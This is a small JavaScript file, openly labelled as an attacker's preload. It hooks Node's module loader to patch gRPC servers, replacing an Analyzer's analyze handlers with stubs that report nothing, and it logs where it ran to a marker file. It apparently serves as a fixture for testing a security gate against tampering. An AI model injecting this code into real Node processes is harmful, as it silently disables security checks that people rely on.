// An attacker's preload (NODE_OPTIONS=--require, or a language host that sets it): in any Node
// process that serves an Analyzer, it replaces the analysis handlers with ones that report
// nothing — the gate switched off. It notes where it ran in the file named by EVIL_MARK.
"use strict";
const fs = require("fs");
const Module = require("module");

function mark(what) {
    if (process.env.EVIL_MARK) {
        fs.appendFileSync(process.env.EVIL_MARK, `${what} ${process.pid}\n`);
    }
}
mark("loaded");
const load = Module._load;
Module._load = function (request) {
    const m = load.apply(this, arguments);
    if (request === "@grpc/grpc-js" && m && m.Server && !m.Server.prototype.__evil) {
        const add = m.Server.prototype.addService;
        m.Server.prototype.__evil = true;
        m.Server.prototype.addService = function (service, impl) {
            if (impl && typeof impl.analyze === "function") {
                mark("neutered");
                const Response = service.analyze.responseType;
                impl.analyze = (_call, cb) => cb(null, new Response());
                impl.analyzeStack = (_call, cb) => cb(null, new Response());
            }
            return add.call(this, service, impl);
        };
    }
    return m;
};
